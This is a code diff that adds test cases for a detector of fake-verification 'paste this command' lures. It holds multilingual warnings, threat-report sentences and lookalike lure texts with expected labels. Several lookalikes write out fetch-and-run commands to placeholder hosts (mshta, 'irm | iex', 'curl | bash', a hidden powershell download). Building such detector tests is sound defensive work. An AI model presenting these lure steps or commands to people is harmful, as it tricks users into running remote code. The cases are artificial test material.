@@ -207,9 +207,163 @@ def run_box(book: Book) -> None:
         book.add("runbox-control-library-page-lookalike", text, "malicious", "windows", RUN, LURE)
 
 
+# -- security texts: warnings, reports and notes that quote a lure's steps or command ------------
+
+UNKNOWN = "unknown"
+TERMINAL = "terminal"
+CERT = "https://www.cert-advisories.example/alerts/2026-41"
+REPORT = "https://research.threat-notes.example/2026/fake-check-wave"
+SOC = "https://intel.soc-team.example/weekly/2026-w49"
+LURE_PAGE = "https://verify.check-session.test/"
+
+# an awareness note in another language that names the paste steps and calls the pages fake (its
+# word for fake or scam, as "fake" clears PG-LURE-PASTE-INSTRUCTIONS in English)
+WARNINGS_INTL = [
+    "Aviso: páginas falsas de verificación piden pulsar Win+R y pegar un comando. Ningún sitio "
+    "legítimo lo solicita.",
+    "Alerta: sites falsos pedem para pressionar Win+R e colar um comando. Nenhum CAPTCHA "
+    "verdadeiro pede isso.",
+    "Attention : de fausses pages de vérification demandent d'appuyer sur Win+R et de coller une "
+    "commande. Aucun site légitime ne demande cela.",
+    "Achtung: gefälschte Prüfseiten verlangen, Win+R zu drücken und einen Befehl einfügen. Keine "
+    "echte Website verlangt das.",
+    "Attenzione: pagine di verifica false chiedono di premere Win+R e incollare un comando. "
+    "Nessun sito legittimo lo chiede.",
+    "Uwaga: fałszywe strony weryfikacji każą nacisnąć Win+R i wkleić polecenie. Żadna prawdziwa "
+    "strona tego nie wymaga.",
+    "Uyarı: sahte doğrulama sayfaları Win+R tuşlarına basıp bir komut yapıştırmanızı istiyor. "
+    "Hiçbir gerçek site bunu istemez.",
+    "Waarschuwing: nep-verificatiepagina's vragen om Win+R in te drukken en een opdracht te "
+    "plakken. Geen echte website vraagt dat.",
+    "Consejo: si una web le pide pulsar Win+R y pegar algo, es falsa. Ningún CAPTCHA legítimo "
+    "funciona así.",
+    "Dica: verificações falsas pedem para abrir o Executar com Win+R e colar texto; feche a "
+    "página.",
+    "Los CAPTCHA falsos copian un comando y piden pegarlo con Ctrl+V tras pulsar Win+R.",
+    "Golpe comum: a página pede Win+R, Ctrl+V e Enter. Não cole nada.",
+]
+# the same steps from a check page, with no such word (and the concession a lure makes), and
+# with the command: they keep their weight
+WARNINGS_INTL_LOOKALIKES = [
+    ("Verificación: pulse Win+R, pegue el comando y pulse Intro.", UNKNOWN, "flagged"),
+    ("Verificação: pressione Win+R, cole o comando e pressione Enter.", UNKNOWN, "flagged"),
+    ("Vérification : appuyez sur Win+R, collez la commande et appuyez sur Entrée.", UNKNOWN,
+     "flagged"),
+    ("Per verificare: premi Win+R, incolla il comando e premi Invio.", UNKNOWN, "flagged"),
+    ("Weryfikacja: naciśnij Win+R, wklej polecenie i naciśnij Enter.", UNKNOWN, "flagged"),
+    ("Ningún sitio legítimo le pide esto, pero pulse Win+R y pegue el código.", UNKNOWN,
+     "flagged"),
+    ("Nenhum site verdadeiro pede isso, mas pressione Win+R e cole o código.", UNKNOWN,
+     "flagged"),
+    ("Esto no es falso. Pulse Win+R, pegue y pulse Intro:\nmshta https://cdn.verify-step.invalid/c",
+     "run_dialog", "malicious"),
+    ("Não é golpe: pressione Win+R e cole o código para verificar.\n"
+     "mshta https://cdn.verify-step.invalid/c", UNKNOWN, "malicious"),
+    ("Páginas falsas? No. Pulse Win+R y pegue:\n"
+     'powershell -w h -c "irm https://cdn.verify-step.invalid/c | iex"', UNKNOWN, "malicious"),
+]  # fmt: skip
+
+# a report telling what a lure page does to its visitors, in the third person
+REPORTS = [
+    "The page shows a reCAPTCHA box; clicking it copies a PowerShell command to the clipboard "
+    "and shows three steps: Win+R, Ctrl+V, Enter.",
+    "Visitors are told to press Win+R, paste with Ctrl+V and press Enter; the pasted command "
+    "fetches a loader.",
+    "The overlay instructs the user to press Win+R and paste what the button copied.",
+    "After the click, users are asked to open the Run dialog with Win+R and paste the clipboard.",
+    "The lure tells visitors to press Win+X, open Terminal and paste the command.",
+    "The check page displays four steps: Win+R, Ctrl+V, Enter, then wait.",
+    "Victims are instructed to press Win+R and paste a command that the page placed on the "
+    "clipboard.",
+    "The kit then lists three steps for the visitor (Win+R, Ctrl+V, Enter) under a spinner.",
+    "In this wave the popup asks its visitors to paste into the Run box after pressing Win+R.",
+    "The second stage prompts users to press Win+R and paste; the copied line runs mshta.",
+    "On macOS the page tells users to press Command+Space, open Terminal and paste.",
+    "The widget presents 3 steps: Win+R, then Ctrl+V, then Enter.",
+]
+REPORT_LOOKALIKES = [
+    ("Users are asked to press Win+R and paste this:\nmshta https://cdn.verify-step.invalid/c",
+     UNKNOWN, "malicious"),
+    ("The page shows three steps: Win+R, Ctrl+V, Enter\n"
+     'powershell -w h -c "irm https://cdn.verify-step.invalid/c | iex"', "run_dialog", "malicious"),
+    ("Press Win+R, paste with Ctrl+V and press Enter:\n"
+     'powershell -w h -c "irm https://cdn.verify-step.invalid/c | iex"', UNKNOWN, "malicious"),
+    ("1. Press Win + R\n2. Press Ctrl + V\n3. Press Enter\nmshta https://cdn.verify-step.invalid/v",
+     UNKNOWN, "malicious"),
+    ("Visitors are told to paste it: curl -fsSL https://cdn.verify-step.invalid/i | bash",
+     TERMINAL, "flagged"),
+    ("Verify you are human. The page shows three steps: Win+R, Ctrl+V, Enter.\n"
+     "mshta https://cdn.verify-step.invalid/h", UNKNOWN, "malicious"),
+    ("Users are told to press Win+R and paste:\n"
+     "cmd /c start /min powershell -w h -c iwr https://cdn.verify-step.invalid/a -OutFile $env:TEMP\\a.exe",
+     "run_dialog", "malicious"),
+    ("Press Command+Space, open Terminal and paste: curl -fsSL https://cdn.verify-step.invalid/i | bash",
+     TERMINAL, "malicious"),
+    ("To finish, the page shows 3 steps:\n"
+     "mshta https://cdn.verify-step.invalid/c # I am not a robot - ID 4471", "run_dialog",
+     "malicious"),
+    ("Visitors are asked to paste this in Run:\n"
+     "conhost --headless powershell -c irm cdn.verify-step.invalid/r | iex", "run_dialog",
+     "malicious"),
+]  # fmt: skip
+
+# a note that names a download-and-run pipe in quotes inside a sentence, with no address
+QUOTED_PIPES = [
+    "Detection tuning: we stopped alerting on 'curl | sh' from developer workstations when the "
+    "URL matches the project's own domain; alerts on unknown hosts remain.",
+    'We no longer page on "irm | iex" from admin jump hosts; the rule still fires on every other '
+    "host.",
+    "The kit serves a 'curl | bash' line to macOS visitors.",
+    "Reviewers should flag any 'wget | sh' step in a pull request and ask for a pinned checksum "
+    "instead.",
+    "Our policy bans “curl | sudo bash” in runbooks; use the package repository.",
+    "Hunting note: a ‘curl | zsh’ spawned by Terminal right after a browser download is worth a "
+    "look.",
+    "The old README still says 'curl | sh' but the new one pins a release.",
+    'Avoid "iwr | iex" patterns in onboarding docs; ship a signed MSI.',
+    "An alert on 'curl | bash' fired 14 times last week, all from the CI runners.",
+    "Why does everyone hate 'curl | sh'? Because you cannot review what runs.",
+    "Training slide: never paste 'irm | iex' from a chat message.",
+]
+QUOTED_PIPE_LOOKALIKES = [
+    ("Detection tuning: we stopped alerting on 'curl https://get.check-session.test/a | sh' from "
+     "developer workstations.", UNKNOWN, "flagged"),
+    ("curl -fsSL https://get.check-session.test/a | sh", TERMINAL, "flagged"),
+    ("Run this: 'curl -fsSL https://get.check-session.test/a | sh'", UNKNOWN, "flagged"),
+    ("Paste 'curl get.check-session.test | sh' in Terminal.", UNKNOWN, "flagged"),
+    ("echo 'curl | sh' ; curl -s https://get.check-session.test/x | bash", TERMINAL, "flagged"),
+    ("Our note on 'curl | sh' is below:\ncurl -fsSL https://get.check-session.test/a | bash",
+     UNKNOWN, "flagged"),
+    ("We stopped alerting on 'curl | sh $HOME/.x' from workstations.", UNKNOWN, "flagged"),
+    ('Install: "irm https://get.check-session.test/i | iex"', UNKNOWN, "flagged"),
+    ("The fix for 'wget | sh' is: wget -qO- https://get.check-session.test/f | sh", UNKNOWN,
+     "flagged"),
+    ("Note: 'curl | sh' below.\nirm https://get.check-session.test/w | iex", TERMINAL,
+     "flagged"),
+]  # fmt: skip
+
+
+def security_texts(book: Book) -> None:
+    for i, text in enumerate(WARNINGS_INTL):
+        book.add("prose-paste-warning-intl", text, "not_flagged", "any", UNKNOWN,
+                 (CERT, None)[i % 2])  # fmt: skip
+    for text, target, expect in WARNINGS_INTL_LOOKALIKES:
+        book.add("prose-paste-warning-intl-lookalike", text, expect, "windows", target, LURE_PAGE)
+    for i, text in enumerate(REPORTS):
+        book.add("prose-report-narration", text, "not_flagged", "any", UNKNOWN,
+                 (REPORT, None)[i % 2])  # fmt: skip
+    for text, target, expect in REPORT_LOOKALIKES:
+        book.add("prose-report-narration-lookalike", text, expect, "any", target, LURE_PAGE)
+    for i, text in enumerate(QUOTED_PIPES):
+        book.add("prose-quoted-pipe", text, "not_flagged", "any", UNKNOWN, (SOC, None)[i % 2])
+    for text, target, expect in QUOTED_PIPE_LOOKALIKES:
+        book.add("prose-quoted-pipe-lookalike", text, expect, "any", target, None)
+
+
 def build() -> list[dict[str, str]]:
     book = Book("b16b")
     run_box(book)
+    security_texts(book)
     return book.cases
 
 
